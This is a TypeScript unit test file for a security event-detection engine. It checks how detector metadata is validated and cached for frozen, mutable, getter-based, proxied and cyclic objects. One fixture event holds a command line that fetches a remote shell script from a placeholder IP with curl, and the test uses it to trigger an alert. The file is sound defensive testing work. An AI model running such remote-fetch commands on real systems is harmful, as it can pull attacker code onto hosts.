import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { makeEvent } from '../../testing.js';
import { analyzeEvents } from '../engine/entry.js';
import { validateDetector } from './define.js';
import type { AnyDetector } from './types.js';

/** Freeze every object reachable from `value` by its data properties, but those of `skip`. */
function deepFreeze<T>(value: T, skip: ReadonlySet<unknown> = new Set()): T {
  if (value === null || typeof value !== 'object' || Object.isFrozen(value) || skip.has(value)) return value;
  Object.freeze(value);
  for (const key of Reflect.ownKeys(value)) {
    const d = Object.getOwnPropertyDescriptor(value, key)!;
    if ('value' in d) deepFreeze(d.value, skip);
  }
  return value;
}

function meta(): Record<string, unknown> {
  return {
    id: 'acme/settled',
    title: 'A settled detector',
    summary: 'A detector frozen all the way down.',
    rationale: 'Validated once per process, not once per analyzer.',
    severity: 'medium',
    category: 'Testing',
    mitre: ['T1059.004'],
    references: ['https://example.org/settled'],
    tables: ['DeviceProcessEvents'],
    evidence: {
      file: { from: 'FileName', combine: 'distinct' },
      line: {
        from: (e: { str(c: string): string | undefined }) => e.str('ProcessCommandLine'),
        combine: 'first',
        label: 'Line',
      },
    },
    messages: {
      default: { title: 'Ran {file}', description: 'It ran {line}.', riskAssessment: '{count} on {device}.' },
    },
  };
}

const match = () => ({});

describe('validating a detector that cannot change', () => {
  it('gives the copy it made the first time when the detector is frozen all the way down', () => {
    const detector = deepFreeze({ meta: meta(), match }) as unknown as AnyDetector;
    const first = validateDetector(detector);
    expect(validateDetector(detector)).toBe(first);
    expect(Object.isFrozen(first)).toBe(true);
    expect(first.title).toBe('A settled detector');
  });

  it('reads again a detector whose metadata is not frozen, and sees a change', () => {
    const m = meta();
    const detector = Object.freeze({ meta: m, match }) as unknown as AnyDetector;
    const first = validateDetector(detector);
    m.title = 'Changed since';
    const again = validateDetector(detector);
    expect(again).not.toBe(first);
    expect(again.title).toBe('Changed since');
  });

  it('reads again a detector with a list left unfrozen inside frozen metadata', () => {
    const m = meta();
    const references = ['https://example.org/settled'];
    m.references = references;
    const detector = deepFreeze({ meta: m, match }, new Set([references])) as unknown as AnyDetector;
    validateDetector(detector);
    references.push('not a url');
    expect(() => validateDetector(detector)).toThrow(/references\.1/);
  });

  it('reads again metadata with a getter: it may answer differently', () => {
    let n = 0;
    const m = meta();
    Object.defineProperty(m, 'title', { get: () => `Title number ${++n}`, enumerable: true });
    const detector = deepFreeze({ meta: m, match }) as unknown as AnyDetector;
    const first = validateDetector(detector).title;
    expect(first).toMatch(/^Title number \d+$/);
    expect(validateDetector(detector).title).not.toBe(first);
  });

  it('reads again a detector whose match is a getter or whose metadata is a proxy', () => {
    let calls = 0;
    const withGetter = Object.freeze(
      Object.defineProperty({ meta: deepFreeze(meta()) }, 'match', {
        get: () => {
          calls++;
          return match;
        },
        enumerable: true,
      }),
    ) as unknown as AnyDetector;
    validateDetector(withGetter);
    const before = calls;
    validateDetector(withGetter);
    expect(calls).toBeGreaterThan(before);
    const proxied = Object.freeze({ meta: new Proxy(deepFreeze(meta()), {}), match }) as unknown as AnyDetector;
    expect(validateDetector(proxied)).not.toBe(validateDetector(proxied));
  });

  it('keeps an options schema by reference, and checks it is still one on each use', () => {
    const options = z.object({ n: z.number().optional() });
    const m = meta();
    m.options = options;
    const detector = deepFreeze({ meta: m, match }, new Set([options])) as unknown as AnyDetector;
    const first = validateDetector(detector);
    expect(validateDetector(detector)).toBe(first);
    expect(first.options).toBe(options);
    Object.defineProperty(options, 'safeParse', { value: 'no longer a function' });
    expect(() => validateDetector(detector)).toThrow(/meta\.options: must be a zod schema/);
  });

  it('walks a frozen cycle once', () => {
    const m = meta();
    const template: Record<string, unknown> = { title: 'T', description: 'D', riskAssessment: 'R' };
    template.self = template;
    m.messages = { default: template };
    const detector = deepFreeze({ meta: m, match }) as unknown as AnyDetector;
    expect(validateDetector(detector)).toBe(validateDetector(detector));
  });

  it('gives analyzers created one after the other the same alerts', async () => {
    const detector = deepFreeze({ meta: meta(), match }) as unknown as AnyDetector;
    const row = makeEvent('DeviceProcessEvents', {
      Timestamp: '2025-11-07T06:46:38Z',
      DeviceId: 'd1',
      DeviceName: 'host-1',
      ActionType: 'ProcessCreated',
      ReportId: 7,
      FileName: 'curl',
      ProcessCommandLine: 'curl -fsSL http://203.0.113.7/x.sh',
    });
    const run = () => analyzeEvents([row], { detectors: [detector], generatedAt: '2025-11-07T12:00:00.000Z' });
    const a = await run();
    const b = await run();
    expect(a.alerts).toHaveLength(1);
    expect(a.alerts[0]!.title).toBe('Ran curl');
    expect(JSON.stringify(b)).toBe(JSON.stringify(a));
  });
});
